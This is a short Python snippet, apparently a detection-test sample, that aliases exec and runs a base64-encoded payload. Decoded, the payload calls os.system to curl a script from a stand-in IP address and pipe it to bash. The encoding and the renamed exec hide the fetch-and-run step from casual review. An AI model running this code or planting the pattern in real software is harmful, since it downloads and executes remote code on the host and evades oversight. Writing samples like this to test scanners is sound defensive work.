# decode-exec: exec reached through an alias so the call does not say exec
from base64 import b64decode as unpack

run = exec
run(unpack("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IGJhc2gnKQ=="))
